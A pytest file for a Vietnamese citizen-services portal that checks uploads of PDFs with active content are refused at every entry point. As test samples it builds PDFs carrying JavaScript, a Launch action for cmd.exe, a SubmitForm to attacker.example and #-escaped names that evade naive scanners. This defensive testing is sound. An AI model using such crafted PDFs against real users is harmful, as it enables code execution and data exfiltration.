"""A PDF that runs something when opened (JavaScript, a launched program, data import, a form sent away) is
refused at every entry point with a clear message, and nothing else the user entered is lost. Plain PDFs (links,
"open at page 1" actions, scans) pass as before. The PDFs are made here with pikepdf."""

import base64
import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from motcua.documents.tests.samples import pdf
from motcua.documents.uploads import UploadError, check_upload
from motcua.dossiers.models import Dossier

SLOTS = ("to_khai_khai_sinh", "giay_chung_sinh", "giay_to_tuy_than")
REFUSED_VI = "chứa nội dung tự chạy"


def _saved(document: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def _js(code: str = "app.alert('x')") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def open_action_javascript() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = document.make_indirect(_js())
    # Packed in a compressed object stream: the names do not appear in the file's bytes.
    return _saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def page_additional_action() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.pages[0].obj.AA = pikepdf.Dictionary(O=_js())  # runs when the page opens
    return _saved(document)


def launch_action() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                  Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe")))
    return _saved(document)


def javascript_name_tree() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("init"), document.make_indirect(_js())])))
    return _saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def link_submitting_a_form() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                              Rect=pikepdf.Array([0, 0, 100, 100]),
                              A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm,
                                                   F=pikepdf.String("https://attacker.example/")))
    document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array([link]))
    return _saved(document)


def hex_escaped_names() -> bytes:
    """Written by hand, with the action's name spelled with #-escapes (/J#61vaScript is /JavaScript)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
               b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def unreadable_with_javascript() -> bytes:
    """No structure qpdf can repair, but a lenient reader might still find the script."""
    return b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> garbage"


ACTIVE = {
    "open-action-javascript": (open_action_javascript, "JavaScript"),
    "page-additional-action": (page_additional_action, "JavaScript"),
    "launch": (launch_action, "Launch"),
    "javascript-name-tree": (javascript_name_tree, "JavaScript"),
    "link-submitting-a-form": (link_submitting_a_form, "SubmitForm"),
    "hex-escaped-names": (hex_escaped_names, "JavaScript"),
    "unreadable-with-javascript": (unreadable_with_javascript, "JavaScript"),
}


@pytest.mark.parametrize("kind", ACTIVE)
def test_active_content_is_refused(kind):
    make, found = ACTIVE[kind]
    with pytest.raises(UploadError) as refused:
        check_upload("don.pdf", make())
    assert refused.value.code == "active_content"
    assert refused.value.message_vi.startswith(f"Tệp don.pdf {REFUSED_VI} ({found})")
    assert f"The file don.pdf contains active content ({found})" in refused.value.message_en


def _plain_with_link_and_open_at_page_one() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]),
                              A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://dichvucong.gov.vn")))
    document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array([link]))
    return _saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@pytest.mark.parametrize("content", [pdf(), _plain_with_link_and_open_at_page_one(), b"%PDF-1.4 scan"],
                         ids=["blank", "link-and-open-at-page-one", "not-parseable-but-inert"])
def test_plain_pdfs_pass(content):
    assert check_upload("don.pdf", content).file_type.key == "pdf"


def test_a_pdf_locked_with_a_password_is_refused():
    document = pikepdf.new()
    document.add_blank_page()
    content = _saved(document, encryption=pikepdf.Encryption(owner="chu", user="mo-khoa"))
    with pytest.raises(UploadError) as refused:
        check_upload("don.pdf", content)
    assert refused.value.code == "pdf_password" and "mật khẩu" in refused.value.message_vi


# --- every entry point ---------------------------------------------------------------------------

def _birth_uploads(bad_slot: str) -> dict[str, SimpleUploadedFile]:
    return {f"doc__{slot}": SimpleUploadedFile(f"{slot}.pdf", open_action_javascript() if slot == bad_slot
                                               else pdf(slot), "application/pdf") for slot in SLOTS}


def test_the_one_page_portal_form_refuses_it_and_keeps_what_was_typed(client, citizen, demo_catalog,
                                                                      demo_agencies):
    from motcua.portal.tests.test_submit_online import form

    client.force_login(citizen, backend="django.contrib.auth.backends.ModelBackend")
    response = client.post(reverse("portal:submit", args=["1.001193"]),
                           {**form(agency=demo_agencies["tran_bien"].pk), **_birth_uploads("giay_chung_sinh")})
    assert response.status_code == 400
    page = response.content.decode()
    assert f"Tệp giay_chung_sinh.pdf {REFUSED_VI} (JavaScript)" in page
    assert "Nguyễn Minh Khôi" in page and "Bệnh viện Đa khoa Đồng Nai" in page
    assert not Dossier.objects.exists()


def test_the_step_by_step_application_refuses_it_and_keeps_the_other_files(client, citizen, demo_catalog,
                                                                           demo_agencies):
    from motcua.documents.models import StoredDocument
    from motcua.portal.tests.test_apply_wizard import page_url

    client.force_login(citizen)
    client.get(reverse("portal:apply", args=["1.001193"]))
    last = len(client.get(page_url(0)).context["pages"]) - 1
    response = client.post(page_url(last), _birth_uploads("giay_chung_sinh"))
    assert response.status_code == 400
    assert f"Tệp giay_chung_sinh.pdf {REFUSED_VI} (JavaScript)" in response.content.decode()
    assert sorted(StoredDocument.objects.filter(owner=citizen).values_list("kind", flat=True)) == [
        "giay_to_tuy_than", "to_khai_khai_sinh"]


def test_a_supplement_refuses_it(client, citizen, other_clerk, demo_catalog, demo_agencies):
    from motcua.dossiers import actions
    from motcua.dossiers.actions import Applicant, Upload, submit_dossier
    from motcua.dossiers.models import Channel
    from motcua.dossiers.tests.test_deadlines import BIRTH_FORM

    dossier = submit_dossier(
        procedure=demo_catalog["1.001193"], channel=Channel.ONLINE, applicant=Applicant(name="Nguyễn Văn An"),
        competent_agency=demo_agencies["tran_bien"], actor=citizen, form_data=BIRTH_FORM,
        uploads=[Upload(slot, f"{slot}.pdf", pdf(slot)) for slot in SLOTS])
    actions.request_supplement(dossier, actor=other_clerk, items=["Giấy chứng sinh bản rõ nét"], note="Ảnh mờ")
    client.force_login(citizen)
    response = client.post(reverse("portal:supplement", args=[dossier.code]), {
        "doc__giay_chung_sinh": SimpleUploadedFile("gcs.pdf", launch_action(), "application/pdf")}, follow=True)
    assert f"Tệp gcs.pdf {REFUSED_VI} (Launch)" in response.content.decode()
    assert not dossier.documents.filter(is_supplement=True).exists()


def test_the_counter_intake_refuses_it_and_keeps_what_was_typed(clerk, demo_catalog, demo_agencies):
    from motcua.backoffice.tests.helpers import land_intake_post, signed_in

    as_clerk = signed_in(clerk)
    post = land_intake_post(demo_agencies, paper__giay_chung_nhan=None)
    post["doc__giay_chung_nhan"] = SimpleUploadedFile("gcn.pdf", javascript_name_tree(), "application/pdf")
    response = as_clerk.post(reverse("backoffice:intake", args=["1.013831"]), post)
    assert response.status_code == 400
    page = response.content.decode()
    assert f"Tệp gcn.pdf {REFUSED_VI} (JavaScript)" in page
    assert "Trần Thị Bình" in page and "075195004321" in page
    assert not Dossier.objects.exists()


def test_the_citizen_api_refuses_it(client, citizen, demo_catalog, demo_agencies):
    from motcua.dossiers.tests.test_deadlines import BIRTH_FORM
    from motcua.identity.tokens import issue_token
    from motcua.portal.tests.test_api import api

    documents = [{"slot": slot, "name": f"{slot}.pdf", "content_base64": base64.b64encode(
        page_additional_action() if slot == "giay_to_tuy_than" else pdf(slot)).decode()} for slot in SLOTS]
    body = {"procedure_code": "1.001193", "agency_eid": demo_agencies["tran_bien"].eid_code,
            "form_data": BIRTH_FORM, "documents": documents}
    refused = api(client, "POST", "/me/dossiers", issue_token(citizen), body)
    assert refused.status_code == 422
    vi, en = refused.json()["errors"]["documents/giay_to_tuy_than"]
    assert f"{REFUSED_VI} (JavaScript)" in vi and "contains active content (JavaScript)" in en
    assert not Dossier.objects.exists()
